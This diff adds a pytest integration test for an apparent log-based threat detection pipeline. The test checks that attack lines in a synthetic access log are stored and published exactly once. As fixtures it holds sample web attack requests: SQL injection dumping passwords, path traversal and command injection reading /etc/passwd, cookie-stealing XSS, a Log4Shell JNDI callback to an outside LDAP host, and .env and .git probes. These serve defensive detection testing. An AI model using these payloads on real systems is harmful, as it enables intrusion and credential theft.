@@ -1,0 +1,148 @@
+"""The pipeline end to end: a log with known attacks is tailed, every attack is stored exactly
+once, every stored event is published exactly once, and the checkpoint reaches the file's end.
+Runs on SQLite with the in-process broker and on PostgreSQL with Redis."""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import os
+from collections import Counter
+from pathlib import Path
+from typing import Any
+
+import pytest
+from sqlalchemy import select
+
+from tests.conftest import REDIS_TEST_URL, make_settings
+from vigil.db.models import IngestCheckpoint, ThreatEvent
+from vigil.db.session import get_db_context
+from vigil.ingest.records import event_key
+from vigil.ingest.tailer import FileTailer
+from vigil.pipeline.analyze import Analyzer
+from vigil.pipeline.runner import Pipeline
+from vigil.sinks.broker import Broker, MemoryBroker, RedisBroker
+from vigil.sinks.store import DbCheckpointStore, StoreSink
+
+UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36"
+ATTACKS = [
+    '"GET /item.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1" '
+    "200 512",
+    '"GET /download?file=../../../../etc/passwd HTTP/1.1" 200 99',
+    '"GET /search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1" 200 88',
+    '"GET /?x=${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1" 200 10',
+    '"GET /cgi-bin/test.cgi?cmd=;cat%20/etc/passwd HTTP/1.1" 404 0',
+    '"GET /.env HTTP/1.1" 404 0',
+    '"GET /.git/config HTTP/1.1" 404 0',
+]
+BENIGN = [
+    '"GET / HTTP/1.1" 200 5120',
+    '"GET /static/app.css HTTP/1.1" 200 2048',
+    '"GET /products?category=shoes&page=2 HTTP/1.1" 200 4096',
+    '"GET /search?q=union+station+hotel HTTP/1.1" 200 3000',
+    '"POST /api/cart HTTP/1.1" 201 64',
+]
+
+
+def _write_log(path: Path, rounds: int) -> set[int]:
+    """Write the log; returns the byte offsets of the attack lines."""
+    offsets: set[int] = set()
+    position = 0
+    lines = []
+    for i in range(rounds):
+        for j, request in enumerate(BENIGN):
+            lines.append((f"198.51.100.{(i + j) % 200 + 1}", request, False))
+        attack = ATTACKS[i % len(ATTACKS)]
+        lines.append((f"203.0.113.{i % 50 + 1}", attack, True))
+    with path.open("wb") as handle:
+        for n, (ip, request, is_attack) in enumerate(lines):
+            second = n % 60
+            minute = (n // 60) % 60
+            text = (
+                f'{ip} - - [10/Oct/2026:13:{minute:02d}:{second:02d} +0000] {request} "-" "{UA}"\n'
+            ).encode()
+            if is_attack:
+                offsets.add(position)
+            handle.write(text)
+            position += len(text)
+    return offsets
+
+
+async def _collect(broker: Broker, sink: list[dict[str, Any]], ready: asyncio.Event) -> None:
+    agen = broker.subscribe()
+    task = asyncio.ensure_future(agen.__anext__())
+    await asyncio.sleep(0.2)
+    ready.set()
+    try:
+        sink.append(await task)
+        async for message in agen:
+            sink.append(message)
+    finally:
+        with contextlib.suppress(Exception):
+            await agen.aclose()
+
+
+@pytest.mark.parametrize("with_redis", [False, pytest.param(True, marks=pytest.mark.redis)])
+async def test_tailed_log_is_stored_and_published_exactly_once(
+    database_url: str, tmp_path: Path, with_redis: bool
+) -> None:
+    from vigil.db.models import Base
+    from vigil.db.session import close_db, configure_db, get_engine
+
+    if with_redis and not REDIS_TEST_URL:
+        pytest.fail("VIGIL_TEST_REDIS_URL is not set; run the suite through `make test`")
+    log_path = tmp_path / "access.log"
+    attack_offsets = _write_log(log_path, rounds=70)
+    settings = make_settings(
+        database_url, log_paths=str(log_path), batch_size=64, detection_mode="rules"
+    )
+    configure_db(settings)
+    async with get_engine().begin() as conn:
+        await conn.run_sync(Base.metadata.create_all)
+    broker: Broker = RedisBroker(REDIS_TEST_URL) if with_redis else MemoryBroker()
+    await broker.connect()
+    received: list[dict[str, Any]] = []
+    ready = asyncio.Event()
+    collector = asyncio.create_task(_collect(broker, received, ready))
+    await ready.wait()
+    pipeline = Pipeline(
+        settings, analyzer=Analyzer(settings), store=StoreSink(settings), broker=broker
+    )
+    tailer = FileTailer.from_settings(settings, checkpoints=DbCheckpointStore())
+    await pipeline.start()
+    pipeline.add_source(tailer.batches())
+    size = os.path.getsize(log_path)
+    try:
+        for _ in range(300):
+            async with get_db_context() as session:
+                offset = await session.scalar(select(IngestCheckpoint.offset))
+            if offset == size:
+                break
+            await asyncio.sleep(0.1)
+        assert offset == size
+        await pipeline.stop()
+        await asyncio.sleep(0.5)
+        async with get_db_context() as session:
+            rows = list(await session.execute(select(ThreatEvent.id, ThreatEvent.event_key)))
+            origins = list(
+                await session.execute(select(IngestCheckpoint.source, IngestCheckpoint.file_id))
+            )
+        assert len(origins) == 1
+        source, file_id = origins[0]
+        stored_ids = [r.id for r in rows]
+        keys = {r.event_key for r in rows}
+        expected = {event_key(source, file_id, off) for off in attack_offsets}
+        missing = expected - keys
+        assert not missing, f"{len(missing)} of {len(expected)} known attacks not stored"
+        assert len(stored_ids) == len(set(stored_ids))
+        published = Counter(m["id"] for m in received)
+        assert set(published) == set(stored_ids)
+        assert max(published.values()) == 1
+    finally:
+        collector.cancel()
+        with contextlib.suppress(BaseException):
+            await collector
+        await pipeline.stop(drain=False)
+        await broker.close()
+        await close_db()
+        configure_db(None)
